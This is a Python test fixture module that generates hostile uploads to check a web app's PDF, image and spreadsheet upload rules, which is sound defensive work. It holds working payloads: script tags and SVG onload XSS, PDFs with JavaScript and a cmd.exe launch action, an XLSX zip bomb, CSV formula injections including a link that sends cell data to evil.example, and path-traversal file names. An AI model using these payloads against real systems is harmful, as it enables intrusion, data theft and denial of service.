"""Hostile uploads, generated in code (nothing binary is committed): what an attacker, or a confused
user, sends to an upload field. Each item says what it is and what the rule of its kind of upload must
do with it. The 50 MB file is written to a temporary file, never held as a literal.

Two kinds of upload exist in the project:
- documents (PDF, JPEG or PNG of at most 10 MB, judged by content: cohorts.services.apply.upload_checked);
- spreadsheets to import (CSV or XLSX of at most 5 MB: core.spreadsheets.spreadsheet_rows).
"""

import io
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from typing import IO

from PIL import Image

REFUSED, ACCEPTED = "refused", "accepted"
#: Read without harm, then judged on its columns by each import: accepted or refused with a message.
READ = "read"
FIFTY_MB = 50 * 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    key: str
    name: str
    content: Callable[[], bytes] = field(repr=False)
    content_type: str = "application/octet-stream"
    #: What the upload rule must do: refuse it (nothing stored) or accept it (then served safely).
    document: str = REFUSED
    spreadsheet: str = REFUSED


# --------------------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------------------

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><head><title>x</title></head><body>" + SCRIPT + b"</body></html>"


@cache
def pdf_plain() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@cache
def pdf_open_action_js() -> bytes:
    """A PDF whose catalogue runs JavaScript when it is opened (/OpenAction with /S /JavaScript)."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_handwritten(catalog_extra: bytes) -> bytes:
    """A minimal PDF written by hand (as malware kits do), with `catalog_extra` in its catalogue and
    a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>",
        b"<< /JavaScript << /Names [(x) 5 0 R] >> >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


@cache
def png_plain() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "green").save(buffer, format="PNG")
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def png_with_html_chunk() -> bytes:
    """A valid PNG carrying an HTML page in a tEXt chunk, before the image data."""
    plain = png_plain()
    head, rest = plain[:33], plain[33:]  # signature (8) + IHDR chunk (25)
    return head + png_chunk(b"tEXt", b"Comment\x00" + HTML) + rest


XLSX_SKELETON = {
    "[Content_Types].xml": (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        b"</Types>"
    ),
    "_rels/.rels": (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        b"</Relationships>"
    ),
    "xl/workbook.xml": (
        b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        b'<sheet name="Feuil1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        b"</Relationships>"
    ),
}

#: Uncompressed size of the zip bomb's sheet: deflate shrinks it about a thousand times, far under 5 MB.
ZIP_BOMB_SHEET_BYTES = 64 * 1024 * 1024


@cache
def xlsx_zip_bomb() -> bytes:
    """An XLSX whose one sheet inflates to 64 MB of rows (past the 40 MB that an import reads) (a few hundred kB on the wire)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in XLSX_SKELETON.items():
            archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            row = b'<row><c t="inlineStr"><is><t>A</t></is></c></row>'
            chunk = row * (1024 * 1024 // len(row))
            written = 0
            while written < ZIP_BOMB_SHEET_BYTES:
                sheet.write(chunk)
                written += len(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def csv_formula_injection() -> bytes:
    """A readable CSV whose cells are formulas a spreadsheet program would run (accepted as text: the
    exports must neutralise them)."""
    import csv

    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(["Nom", "Prénom", "Entreprise", "E-mail"])
    writer.writerow(["=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3@evil.example"])
    writer.writerow(['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "Awa", "=1+1", "awa@example.org"])
    return buffer.getvalue().encode("utf-8")


def fifty_megabytes(prefix: bytes = b"%PDF-1.7\n") -> IO[bytes]:
    """50 MB starting like a PDF, written in 1 MB chunks to a temporary file (never a 50 MB literal)."""
    handle = tempfile.TemporaryFile()
    handle.write(prefix)
    block = b"0" * (1024 * 1024)
    for _ in range(50):
        handle.write(block)
    handle.seek(0)
    return handle


# --------------------------------------------------------------------------------------------------
# The corpus: contents
# --------------------------------------------------------------------------------------------------

CONTENTS: tuple[Hostile, ...] = (
    Hostile(
        "exe-renamed-pdf",
        "facture.pdf",
        lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 400,
        "application/pdf",
    ),
    Hostile("elf-renamed-pdf", "statuts.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 500, "application/pdf"),
    Hostile("html-named-pdf", "statuts.pdf", lambda: HTML, "application/pdf"),
    Hostile("html-named-png", "logo.png", lambda: HTML, "image/png"),
    Hostile("html", "page.html", lambda: HTML, "text/html"),
    Hostile(
        "svg-with-script",
        "logo.svg",
        lambda: (
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><rect width="9" height="9"/></svg>'
        ),
        "image/svg+xml",
    ),
    # The PNG rule decodes the picture: HTML glued after a valid PNG, or hidden in a text chunk, is dropped
    # by the re-encoding; accepted, and what is stored carries no HTML.
    Hostile("png-html-polyglot", "photo.png", lambda: png_plain() + HTML, "image/png", document=ACCEPTED),
    Hostile("png-html-in-text-chunk", "photo.png", png_with_html_chunk, "image/png", document=ACCEPTED),
    Hostile("png-header-then-html", "photo.png", lambda: b"\x89PNG\r\n\x1a\n" + HTML, "image/png"),
    Hostile("jpeg-header-then-html", "photo.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, "image/jpeg"),
    Hostile("pdf-header-then-html", "statuts.pdf", lambda: b"%PDF-1.4\n" + HTML, "application/pdf"),
    # Decision: a PDF that carries JavaScript or automatic actions is refused, with a message saying how to
    # make a plain PDF ("Imprimer en PDF"); browsers' viewers ignore most of it, other readers do not.
    Hostile("pdf-openaction-javascript", "statuts.pdf", pdf_open_action_js, "application/pdf"),
    Hostile("pdf-names-javascript", "statuts.pdf", lambda: pdf_handwritten(b"/Names 4 0 R"), "application/pdf"),
    Hostile(
        "pdf-launch-action",
        "statuts.pdf",
        lambda: pdf_handwritten(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "application/pdf",
    ),
    Hostile("empty", "vide.pdf", lambda: b"", "application/pdf"),
    Hostile("fifty-megabytes", "gros.pdf", lambda: fifty_megabytes().read(), "application/pdf"),
    # Spreadsheet imports.
    Hostile(
        "xlsx-not-a-zip",
        "candidats.xlsx",
        lambda: b"Nom;Prenom\nDiop;Awa\n",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    Hostile(
        "xlsx-damaged-zip",
        "candidats.xlsx",
        lambda: b"PK\x03\x04" + b"\x00" * 200,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    Hostile(
        "xlsx-zip-bomb", "candidats.xlsx", xlsx_zip_bomb, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ),
    Hostile("exe-renamed-csv", "candidats.csv", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 500, "text/csv"),
    # Read as text (each import then judges its columns and rows); every export of what an import wrote
    # neutralises the formulas (test_a_formula_imported_in_the_directory_is_neutralised_in_its_exports).
    Hostile("csv-formula-injection", "candidats.csv", csv_formula_injection, "text/csv", spreadsheet=READ),
)

#: Hostile file names, on a valid file: the upload is accepted, and the name stored and sent back is safe.
NAMES: tuple[str, ...] = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "a\x00b.pdf",
    "\x1b[31mrouge\x07.pdf",
    "facture\u202efdp.exe",
    "e\u0301te\u0301.pdf",  # NFD
    "\u00e9t\u00e9.pdf",  # NFC
    "CON",
    "nul.pdf",
    "COM1.txt",
    "x" * 1000 + ".pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "\"; filename*=UTF-8''evil.html",
    "\u0645\u0644\u0641 \u202bعربي.pdf",
)
